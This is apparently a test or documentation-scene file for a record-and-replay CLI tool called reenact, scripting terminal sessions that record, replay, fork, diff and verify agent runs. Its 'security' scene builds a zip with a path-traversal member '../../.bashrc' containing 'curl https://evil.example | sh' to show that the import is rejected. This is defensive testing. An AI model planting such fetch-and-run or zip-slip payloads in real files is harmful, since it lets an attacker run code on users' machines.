"""Scenes of single runs: recorded, replayed, forked, compared, kept."""

from __future__ import annotations

import re
import zipfile

from tests.docs.scenes.stage import (
    EXERCISE,
    MEND,
    RECORD,
    ROOT,
    Shop,
    change_the_tool,
    put,
    put_agent,
    put_pytest,
    reached_by_names,
    scene,
    serving,
)


@scene
def record(terminal):
    put_agent(terminal)
    terminal.run(RECORD)
    terminal.run("reenact show last")


@scene
def replay(terminal):
    put_agent(terminal)
    terminal.run(RECORD, shown=False)
    terminal.run("reenact replay last")
    change_the_tool(terminal)
    terminal.run("reenact replay last", status=1)


@scene
def fork(terminal):
    put_agent(terminal)
    terminal.run(MEND, shown=False)
    terminal.run(RECORD, shown=False)
    terminal.run("reenact show last 3")
    terminal.run("reenact fork last --at 3 --set 'output.status = delivered'")
    terminal.run("reenact list --tree")


@scene
def diff(terminal):
    put_agent(terminal)
    terminal.run(MEND, shown=False)
    terminal.run(RECORD, shown=False)
    terminal.run("reenact fork last --at 3 --set 'output.status = delivered'", shown=False)
    terminal.run("reenact diff last~1 last", status=1)


@scene
def diagnose(terminal):
    put_agent(terminal)
    terminal.run(RECORD, shown=False)
    terminal.run("reenact diagnose last", status=1)
    terminal.run("reenact show last 2", lines=30)


@scene
def reproduce(terminal):
    put_agent(terminal)
    terminal.run(RECORD, shown=False)
    terminal.run("reenact reproduce last --times 3")
    change_the_tool(terminal)
    terminal.run("reenact reproduce last --times 2", status=1)


@scene
def testing(terminal):
    put_agent(terminal)
    put_pytest(terminal)
    terminal.run(RECORD, shown=False)
    terminal.run("reenact keep last --as tests/test_support.py")
    terminal.run("pytest -q --no-header tests")
    change_the_tool(terminal)
    terminal.run("pytest -q --no-header --tb=no tests", status=1)


@scene
def verify(terminal):
    put_agent(terminal)
    for question in ("Please cancel ORD-5521.", "Cancel my order!", "I want my money back."):
        terminal.run(f"python agent.py '{question}'", shown=False)
    terminal.run("reenact list")
    terminal.run("reenact verify --entry agent:answer")
    change_the_tool(terminal)
    terminal.run("reenact verify --entry agent:answer", status=1)


@scene
def filters(terminal):
    put_agent(terminal)
    terminal.run("reenact record --name support --tag staging -- python agent.py", shown=False)
    terminal.run(MEND, shown=False)
    terminal.run("reenact record --name support -- python agent.py", shown=False)
    terminal.run("reenact list 'tool:cancel_order'")
    terminal.run("reenact list 'shop:refund and tag:staging'")
    terminal.run("reenact show last --filter 'model or output.status == shipped'")


@scene
def files(terminal):
    put(terminal, "notes.py")
    (terminal.folder / "prices.txt").write_text(
        "coffee grinder: 89.00 EUR\nespresso machine: 349 euros\nmilk jug: 19.00 EUR\n"
    )
    terminal.run("reenact record -- python notes.py")
    terminal.run("reenact files last")
    terminal.run("reenact show last 2 --files")


@scene
def state(terminal):
    put(terminal, "cart.py")
    terminal.run("reenact record -- python cart.py")
    terminal.run("reenact show last 3 --state")
    terminal.run("reenact show last --state", lines=22)


@scene
def secrets(terminal):
    put(terminal, "mail.py")
    terminal.run("reenact record -- python mail.py")
    terminal.run("reenact show last")
    terminal.run("grep -ho '\\[\\[secret:[^]]*\\]\\]' .reenact/recordings/*/events.jsonl | sort | uniq -c")


@scene
def trust(terminal):
    put_agent(terminal)
    terminal.run(f"REENACT_HOME=../theirs {RECORD}", shown=False)
    terminal.run("REENACT_HOME=../theirs reenact export last -o bug.reenact", shown=False)
    terminal.run("reenact import bug.reenact")
    terminal.run("reenact list")
    terminal.run("reenact replay last", status=2)
    terminal.run("reenact replay last -- python agent.py")


@scene
def exported_file(terminal):
    put_agent(terminal)
    terminal.run(f"REENACT_HOME=../theirs {RECORD}", shown=False)
    terminal.run("REENACT_HOME=../theirs reenact export last -o bug.reenact", shown=False)
    terminal.run("reenact show bug.reenact")
    terminal.run("reenact diagnose bug.reenact", status=1)


@scene
def exercise(terminal):
    screen = terminal.run(f"python {EXERCISE / 'exercise.py'}", shown=False)
    terminal.prompt("make exercise")
    parts = re.split(r"\n(?=(?:\x1b\[\S*?m)*\d\. )", screen)
    stopped, mended = parts[2:4]
    terminal.text("…")
    terminal.text(f"{stopped.rstrip()}\n\n{mended}", lines=len(stopped.rstrip().splitlines()) + 13)


@scene
def clock_and_random(terminal):
    put(terminal, "draw.py")
    terminal.run("reenact record -- python draw.py")
    terminal.run("reenact replay last")
    terminal.comment("Without Reenact:")
    terminal.run("python draw.py")


@scene
def http(terminal):
    put(terminal, "orders.py")
    with serving(Shop) as address:
        reached_by_names(terminal, address)
        terminal.run("reenact record -- python orders.py")
        terminal.run("reenact show last")
    terminal.comment("The shop is closed.")
    terminal.run("reenact replay last")


@scene
def security(terminal):
    put_agent(terminal)
    terminal.run(RECORD, shown=False)
    terminal.run(RECORD, shown=False)
    with zipfile.ZipFile(terminal.folder / "bug.reenact", "w") as archive:
        archive.writestr("../../.bashrc", "curl https://evil.example | sh")
    terminal.comment("A file from a stranger: one of its members is named ../../.bashrc.")
    terminal.run("reenact import bug.reenact", status=2)
    terminal.comment("One word of a recording is changed.")
    terminal.run(
        "sed -i 's/paid back/robbed/' $(ls -t .reenact/recordings/*/events.jsonl | head -1)", shown=False
    )
    terminal.run("reenact show last", status=2)
    terminal.comment("The one before is whole.")
    terminal.run("reenact replay last~1")


@scene
def ci(terminal):
    put_agent(terminal)
    (terminal.folder / "recordings").mkdir()
    for name, question in (("order", "Please cancel ORD-5521."), ("money", "I want my money back.")):
        terminal.run(f"python agent.py '{question}'", shown=False)
        terminal.run(f"reenact export last -o recordings/{name}.reenact", shown=False)
    change_the_tool(terminal)
    terminal.run(
        "reenact verify recordings/ --entry agent:answer --junit reenact.xml --html reenact.html", status=1
    )
    terminal.comment("The action writes this into the pull request:")
    terminal.environ |= {"RECORDINGS": "recordings", "ENTRY": "agent:answer", "PROVE": "false"}
    terminal.environ |= {"COMMENT": "false", "OUTPUT": "reenact-report"}
    terminal.run(f"python {ROOT / 'action' / 'report.py'}", shown=False, status=1)
    terminal.run("cat reenact-report/comment.md", lines=19)


@scene
def install(terminal):
    terminal.run("reenact --help", lines=34)
